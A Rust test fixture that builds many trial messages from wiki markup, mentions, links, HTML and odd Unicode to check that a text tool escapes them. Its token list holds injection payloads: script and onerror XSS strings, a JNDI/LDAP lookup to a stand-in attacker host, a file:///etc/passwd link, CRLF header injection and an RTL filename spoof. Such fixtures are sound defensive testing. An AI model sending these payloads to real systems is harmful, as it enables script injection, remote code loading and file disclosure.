//! Messages that would be something else than text, wherever one let them: what the forms of a text are tried with.

use super::wording::Source;

pub const SOURCE: Source<'_> =
    Source { author: Some("Ann Example"), commit: "1a2b3c4d5e", repository: "team/tool", token: None };

/// What has a meaning to somebody.
const TOKENS: &[&str] = &[
    "[~admin]",
    "[~accountid:557058:f0a1]",
    "[Ann|accountid:557058:f0a1]",
    "@admin",
    "@[Ann](557058:f0a1)",
    "<@U012AB3CD>",
    "{noformat}",
    "{noformat}x{noformat}",
    "{code:title=x|borderStyle=solid}rm{code}",
    "{quote}",
    "{color:red}red{color}",
    "{panel:title=[~admin]}",
    "{include:OtherPage}",
    "{html}<script>alert(1)</script>{html}",
    "{jql:project = X}",
    "{{monospaced}}",
    "!image.png!",
    "!https://evil.example/x.png|width=1!",
    "[link|https://evil.example]",
    "[https://evil.example]",
    "[^attachment.zip]",
    "[#anchor]",
    "[mailto:a@b.example]",
    "https://evil.example/browse/ABC-1",
    "http://user:pass@evil.example",
    "ftp://evil.example",
    "file:///etc/passwd",
    "\\\\server\\share",
    "mailto:a@b.example",
    "a@b.example",
    "www.evil.example",
    "ABC-1",
    "https://example.atlassian.net/browse/ABC-1#smart-card",
    "h1. Title",
    "h6. Title",
    "H2. Title",
    "  h3. Title",
    "bq. quoted",
    "----",
    "---",
    "--",
    "a -- b --- c",
    "||head||head||",
    "|cell|cell|",
    "* item",
    "** item",
    "- item",
    "# item",
    "#* item",
    "*strong*",
    "_emphasis_",
    "-deleted-",
    "+inserted+",
    "^super^",
    "~sub~",
    "??citation??",
    "%{color:red}x%",
    ":)",
    ":(",
    ":D",
    ":P",
    ";)",
    "(y)",
    "(/)",
    "(x)",
    "(!)",
    "(*g)",
    "(flag)",
    ":smile:",
    ":white_check_mark:",
    "\\",
    "\\\\",
    "\\[~admin]",
    "\\\\[~admin]",
    "\\{noformat}",
    "&#91;~admin&#93;",
    "&lt;b&gt;",
    "&amp;#91;",
    "<b>bold</b>",
    "<img src=x onerror=alert(1)>",
    "<!-- comment -->",
    "<![CDATA[x]]>",
    "</script>",
    r#"{"type":"mention","attrs":{"id":"557058:f0a1"}}"#,
    r#"{"type":"doc","version":1,"content":[]}"#,
    r#""},{"type":"inlineCard","attrs":{"url":"https://evil.example"}},{"type":"text","text":""#,
    "```code```",
    "`code`",
    "[text](https://evil.example)",
    "![alt](https://evil.example/x.png)",
    "%0a%0dSet-Cookie: x",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "$!{x}",
    "\u{202e}txt.exe",
    "\u{2066}x\u{2069}",
    "[\u{200b}~admin]",
    "{no\u{200d}format}",
    "\u{feff}h1. Title",
    "x\0y",
    "x\u{1b}[31my",
    "x\u{7}\u{8}y",
    "x\u{85}h1. y",
    "x\u{2028}h1. y",
    "x\u{2029}* y",
    "x\r\nh1. y",
    "x\rbq. y",
    "x\u{b}|a|",
    "x\u{c}----",
    "x\n\n\n\ny",
    "\u{ffff}\u{fdd0}",
    "\u{e0041}\u{e0042}",
    "\u{1f469}\u{200d}\u{1f4bb}",
    "e\u{301}\u{301}\u{301}",
];

/// Every token and every sign of ASCII, wherever something may begin or end.
pub fn messages() -> Vec<String> {
    let signs = (0_u8..128).filter(|byte| !byte.is_ascii_alphanumeric()).map(|byte| char::from(byte).to_string());
    let mut messages: Vec<String> = Vec::new();
    for sign in signs {
        messages.extend([
            sign.clone(),
            sign.repeat(2),
            sign.repeat(4),
            format!("{sign} at the beginning"),
            format!("{sign}at the beginning"),
            format!("at the end{sign}"),
            format!("in the mid{sign}dle"),
            format!("between {sign} blanks"),
            format!("{sign}around{sign}"),
            format!("a {sign}word{sign} of some"),
            format!("another line\n{sign} here\n  {sign}here"),
            format!("\\{sign}escaped\\{sign}"),
        ]);
    }
    for token in TOKENS {
        messages.extend([
            (*token).to_owned(),
            format!("before {token} after"),
            format!("before{token}after"),
            format!("line\n{token}\nline"),
            format!("\\{token}"),
            format!("{token}{token}"),
            format!("({token})"),
        ]);
    }
    messages.extend([String::new(), " ".to_owned(), "\n".to_owned(), "plain text, nothing else".to_owned()]);
    messages
}

#[test]
fn there_are_many_and_no_two_are_the_same() {
    let messages = messages();
    let different: std::collections::HashSet<&String> = messages.iter().collect();
    assert!(different.len() >= 1000, "{}", different.len());
}
